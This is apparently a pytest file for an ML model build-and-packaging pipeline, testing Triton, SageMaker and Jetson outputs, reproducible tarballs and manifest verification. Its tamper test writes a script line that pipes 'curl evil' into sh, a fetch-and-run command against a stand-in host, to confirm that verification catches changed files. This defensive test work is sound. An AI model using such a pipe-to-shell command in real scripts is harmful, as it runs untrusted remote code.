"""The engine and package stages in real builds (runner, assembler, manifest) for the
cpu, jetson and a100 targets, from a tiny real model exported and quantized here."""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import numpy as np
import pytest

from pipeline.manifest import verify_dist
from pipeline.packaging.tarball import safe_extract
from pipeline.packaging.triton import model_config_pb2, parse_config
from pipeline.recipe import load_recipe
from pipeline.runner import run_build
from pipeline.stage import Reporter
from pipeline.stages import engine, package
from pipeline.target import load_target
from tests.fixtures.packaging import upstream_stages
from tests.fixtures.recipes import write_bare_recipe

EDGEPACK = str(Path(sys.executable).parent / "edgepack")


class Notes(Reporter):
    def __init__(self) -> None:
        self.lines: list[str] = []

    def note(self, stage: str, line: str) -> None:
        self.lines.append(f"{stage}: {line}")


@pytest.fixture(scope="module")
def builds(tmp_path_factory, tiny_onnx_models) -> dict:
    """target → (dist, notes, result) for cpu, jetson and a100."""
    onnx = tiny_onnx_models
    root = tmp_path_factory.mktemp("builds")
    recipe = load_recipe(write_bare_recipe(root, onnx))
    found = {}
    for name in ("cpu", "jetson", "a100"):
        notes = Notes()
        result = run_build(
            recipe,
            load_target(name),
            out_root=root / "dist",
            cache_root=root / "cache",
            stages=[*upstream_stages(onnx), engine.STAGE, package.STAGE],
            reporter=notes,
        )
        found[name] = (result.dist, notes.lines, result)
    found["_root"] = (root, recipe, onnx)
    return found


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_every_build_verifies(builds):
    for name in ("cpu", "jetson", "a100"):
        dist = builds[name][0]
        assert verify_dist(dist) == [], name
        ok = subprocess.run([EDGEPACK, "verify", str(dist)], capture_output=True, text=True)
        assert ok.returncode == 0 and "files match manifest.json" in ok.stdout


def test_cpu_triton_repository_serves_the_int8_model(builds):
    dist, notes, _ = builds["cpu"]
    onnx = builds["_root"][2]
    folder = dist / "triton" / "tiny"
    config = parse_config((folder / "config.pbtxt").read_text())
    assert config.name == "tiny" and config.backend == "onnxruntime"
    assert config.max_batch_size == 32
    dtype = model_config_pb2().DataType.Name
    assert [(i.name, dtype(i.data_type), list(i.dims)) for i in config.input] == [
        ("input_ids", "TYPE_INT64", [-1]),
        ("attention_mask", "TYPE_INT64", [-1]),
        ("token_type_ids", "TYPE_INT64", [-1]),
    ]
    assert [(o.name, dtype(o.data_type), list(o.dims)) for o in config.output] == [
        ("logits", "TYPE_FP32", [2])
    ]
    assert config.instance_group[0].kind == model_config_pb2().ModelInstanceGroup.KIND_CPU
    assert config.dynamic_batching.max_queue_delay_microseconds == 500
    assert sha(folder / "1" / "model.onnx") == sha(onnx / "model.int8.onnx")
    assert (folder / "labels.txt").read_text().split() == ["public", "confidential"]
    assert not [n for n in notes if n.startswith("engine:")], "cpu has no engine to defer"


def test_sagemaker_tarball_has_the_model_folder_at_its_root(builds):
    dist = builds["cpu"][0]
    tarball = dist / "sagemaker" / "model.tar.gz"
    with tarfile.open(tarball) as tar:
        names = tar.getnames()
    assert names == ["tiny", "tiny/1", "tiny/1/model.onnx", "tiny/config.pbtxt", "tiny/labels.txt"]
    deploy = json.loads((dist / "sagemaker" / "deploy.json").read_text())
    env = deploy["create_model"]["PrimaryContainer"]["Environment"]
    assert env == {"SAGEMAKER_TRITON_DEFAULT_MODEL_NAME": "tiny"}
    assert deploy["model_data"]["sha256"] == sha(tarball)
    out = safe_extract(tarball, dist.parent / "_sm_extract")
    assert "tiny/config.pbtxt" in out


def test_deploy_json_requests_validate_against_botocore(builds):
    import botocore.session
    from botocore.validate import ParamValidator

    model = botocore.session.get_session().get_service_model("sagemaker")
    for name in ("cpu", "a100"):
        deploy = json.loads((builds[name][0] / "sagemaker" / "deploy.json").read_text())
        for op, key in (
            ("CreateModel", "create_model"),
            ("CreateEndpointConfig", "create_endpoint_config"),
        ):
            report = ParamValidator().validate(deploy[key], model.operation_model(op).input_shape)
            assert not report.has_errors(), report.generate_report()


def test_jetson_bundle_is_complete_and_deferred_with_one_line(builds):
    dist, notes, result = builds["jetson"]
    assert (
        "engine: deferred to the Jetson (x86_64 host, no TensorRT, no GPU): run "
        "jetson/build_engine.sh on the device" in notes
    )
    assert "package: triton/tiny/1/model.plan waits for the engine (engine deferred)" in notes
    bundle = dist / "jetson"
    expected = {
        "model.qdq.onnx",
        "model.int8.onnx",
        "tokenizer.json",
        "build_engine.sh",
        "build_engine.py",
        "infer.py",
        "README.md",
        "metadata.json",
        "edgepack_engine",
    }
    assert expected <= {p.name for p in bundle.iterdir()}
    assert not list(dist.rglob("*.plan")), "no engine is built on this host"
    meta = json.loads((bundle / "metadata.json").read_text())
    assert meta["engine"]["trt_line"] == "10.3" and meta["engine"]["compute_capability"] == "8.7"
    assert meta["engine"]["shapes"]["max"]["input_ids"] == [8, 256]
    assert meta["labels"] == ["public", "confidential"]
    readme = (bundle / "README.md").read_text()
    assert "@@" not in readme and "TensorRT | 10.3.x" in readme
    engine_metrics = next(s.metrics for s in result.stages if s.name == "engine")
    assert engine_metrics["status"] == "deferred"
    assert engine_metrics["profile"]["opt"]["attention_mask"] == [1, 128]
    config = parse_config((dist / "triton" / "tiny" / "config.pbtxt").read_text())
    assert config.platform == "tensorrt_plan" and config.max_batch_size == 8


def test_jetson_tarball_holds_exactly_the_bundle(builds, tmp_path):
    dist = builds["jetson"][0]
    safe_extract(dist / "jetson.tar.gz", tmp_path)
    packed = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file())
    bundle = sorted(
        p.relative_to(dist).as_posix() for p in (dist / "jetson").rglob("*") if p.is_file()
    )
    assert packed == bundle
    assert all(sha(tmp_path / rel) == sha(dist / rel) for rel in packed)


def test_jetson_infer_classifies_with_onnxruntime_int8(builds, tmp_path):
    import onnxruntime as ort
    from tokenizers import Tokenizer

    dist = builds["jetson"][0]
    bundle = tmp_path / "jetson"
    shutil.copytree(dist / "jetson", bundle)
    text = "My card number is 4111 1111 1111 1111."
    result = subprocess.run(
        [sys.executable, str(bundle / "infer.py"), text],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    answer = json.loads(result.stdout)
    assert answer["runtime"] == "onnxruntime"
    enc = Tokenizer.from_file(str(bundle / "tokenizer.json")).encode(text)
    feeds = {
        "input_ids": [enc.ids],
        "attention_mask": [enc.attention_mask],
        "token_type_ids": [enc.type_ids],
    }
    session = ort.InferenceSession(str(bundle / "model.int8.onnx"))
    logits = session.run(None, {k: np.asarray(v, np.int64) for k, v in feeds.items()})[0][0]
    probs = np.exp(logits - logits.max()) / np.exp(logits - logits.max()).sum()
    assert answer["label"] == ["public", "confidential"][int(logits.argmax())]
    assert answer["scores"]["confidential"] == pytest.approx(float(probs[1]), abs=1e-5)
    forced = subprocess.run(
        [sys.executable, str(bundle / "infer.py"), text, "--runtime", "tensorrt"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert forced.returncode == 2 and "run ./build_engine.sh first" in forced.stderr


def test_a100_has_everything_but_the_plan_and_says_so(builds):
    dist, notes, _ = builds["a100"]
    assert any(
        n.startswith(
            "engine: deferred (TensorRT not found, no NVIDIA GPU found): run "
            "engine/build_engine.sh on an A100 with TensorRT 10.13"
        )
        for n in notes
    )
    assert any("triton/tiny/1/model.plan and sagemaker/model.tar.gz wait" in n for n in notes)
    script = (dist / "engine" / "build_engine.sh").read_text()
    assert 'EXPECTED_CC="8.0"' in script and 'EXPECTED_TRT_LINE="10.13"' in script
    assert '"--onnx=${HERE}/../onnx/model.qdq.onnx"' in script
    assert (dist / "onnx" / "model.qdq.onnx").is_file()
    config = parse_config((dist / "triton" / "tiny" / "config.pbtxt").read_text())
    assert config.platform == "tensorrt_plan"
    assert config.instance_group[0].kind == model_config_pb2().ModelInstanceGroup.KIND_GPU
    assert config.max_batch_size == 64 and list(config.dynamic_batching.preferred_batch_size) == [
        16
    ]
    assert not (dist / "sagemaker" / "model.tar.gz").exists()
    deploy = json.loads((dist / "sagemaker" / "deploy.json").read_text())
    assert deploy["model_data"]["sha256"] is None and "pending" in deploy["model_data"]
    assert deploy["create_endpoint_config"]["ProductionVariants"][0]["InstanceType"] == (
        "ml.p4d.24xlarge"
    )


def test_model_card_and_report_cover_every_variant(builds):
    dist = builds["cpu"][0]
    card = (dist / "MODEL_CARD.md").read_text()
    for heading in ("## Intended use", "## Data", "## Metrics (eval split)", "## Limits"):
        assert heading in card
    assert "| INT8 | `model.int8.onnx` |" in card and "| FP32 | `model.onnx` |" in card
    report = (dist / "report.html").read_text()
    for plot in ("plot-accuracy", "plot-latency", "plot-size"):
        assert f'<figure id="{plot}" class="plot"><svg' in report
    for external in ('href="http', 'src="', "url(http", "<script", "<link", "@import"):
        assert external not in report, f"report.html must be self-contained: {external}"
    metrics = json.loads((dist / "metrics.json").read_text())["package"]
    assert {v["name"] for v in metrics["variants"]} == {"fp32", "int8", "qdq"}
    assert all(v["latency_ms"] > 0 for v in metrics["variants"])
    assert (
        metrics["archive_bytes"]["sagemaker/model.tar.gz"]
        == (dist / "sagemaker" / "model.tar.gz").stat().st_size
    )


def test_rebuilding_gives_byte_identical_tarballs(builds):
    root, recipe, onnx = builds["_root"]
    first = builds["jetson"][0]
    again = run_build(
        recipe,
        load_target("jetson"),
        out_root=root / "again",
        cache_root=root / "cache",
        force=True,
        stages=[*upstream_stages(onnx), engine.STAGE, package.STAGE],
    )
    assert "package" in again.ran
    assert sha(again.dist / "jetson.tar.gz") == sha(first / "jetson.tar.gz")
    assert sha(again.dist / "jetson" / "build_engine.sh") == sha(first / "jetson/build_engine.sh")


def test_verify_fails_on_a_tampered_bundle(builds, tmp_path):
    dist = tmp_path / "dist"
    shutil.copytree(builds["jetson"][0], dist)
    (dist / "jetson" / "build_engine.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    (dist / "jetson" / "model.int8.onnx").unlink()
    (dist / "jetson" / "extra.txt").write_text("x")
    result = subprocess.run([EDGEPACK, "verify", str(dist)], capture_output=True, text=True)
    assert result.returncode == 1
    assert result.stdout.splitlines()[:3] == [
        "missing: jetson/model.int8.onnx",
        "extra: jetson/extra.txt",
        "changed: jetson/build_engine.sh",
    ]
    assert result.stderr.strip() == f"error: {dist}: FAILED, 3 problem(s) listed above"
